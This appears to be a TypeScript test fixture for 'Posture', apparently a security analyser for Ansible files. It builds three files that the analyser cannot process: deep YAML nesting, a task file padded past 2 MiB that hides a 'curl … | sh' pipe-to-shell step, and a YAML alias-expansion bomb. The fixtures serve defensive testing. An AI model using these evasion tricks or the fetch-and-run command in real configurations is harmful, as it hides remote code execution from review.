/**
 * Three ways to hand Posture a configuration file it cannot analyse, each of which Ansible
 * itself would read: YAML nested one level past Posture's limit, a task file padded past the
 * size limit with comments, and a small vars file whose aliases expand past the alias limit.
 */
import { MAX_FILE_BYTES, type SourceFile } from '../../src/engine/analyze.js';
import type { FileErrorKind } from '../../src/model/file-error.js';
import { MAX_YAML_DEPTH } from '../../src/parsers/yaml/nesting.js';

export interface UnanalysableTrick {
  name: string;
  file: SourceFile;
  kind: FileErrorKind;
}

function nestedVars(levels: number): string {
  const lines = Array.from({ length: levels }, (_, level) => `${'  '.repeat(level)}level${level}:`);
  return `${lines.join('\n')}\n${'  '.repeat(levels)}admin_password: hunter2hunter2\n`;
}

function aliasExpansion(): string {
  const lines = [`a: &a [${Array(10).fill('"x"').join(', ')}]`];
  for (const [name, previous] of [
    ['b', 'a'],
    ['c', 'b'],
    ['d', 'c'],
    ['e', 'd'],
  ])
    lines.push(`${name}: &${name} [${Array(10).fill(`*${previous}`).join(', ')}]`);
  return `${lines.join('\n')}\ndb_password: hunter2hunter2\n`;
}

const PIPE_TO_SHELL =
  '- name: install the agent\n  ansible.builtin.shell: curl -s https://get.example.com/agent | sh\n';

export const UNANALYSABLE_TRICKS: readonly UnanalysableTrick[] = [
  {
    name: `YAML nested ${MAX_YAML_DEPTH + 1} levels deep`,
    file: { path: 'roles/app/vars/main.yml', content: nestedVars(MAX_YAML_DEPTH + 1) },
    kind: 'too-deep',
  },
  {
    name: 'a task file padded past 2 MiB with comments',
    file: {
      path: 'roles/app/tasks/main.yml',
      content: `${PIPE_TO_SHELL}${'# nothing to see here\n'.repeat(Math.ceil(MAX_FILE_BYTES / 22) + 1)}`,
    },
    kind: 'too-large',
  },
  {
    name: 'aliases expanding past 10,000 nodes',
    file: { path: 'group_vars/all.yml', content: aliasExpansion() },
    kind: 'alias-expansion',
  },
];
